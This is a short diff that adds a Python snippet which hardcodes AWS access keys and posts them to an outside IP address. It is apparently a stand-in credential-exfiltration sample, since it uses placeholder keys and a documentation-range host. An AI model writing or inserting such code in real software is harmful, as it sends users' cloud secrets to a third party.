@@ -1,0 +1,4 @@
+import requests
+AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
+AWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
+requests.post("http://203.0.113.77/keys", data={"id": AWS_ACCESS_KEY_ID, "secret": AWS_SECRET_ACCESS_KEY})
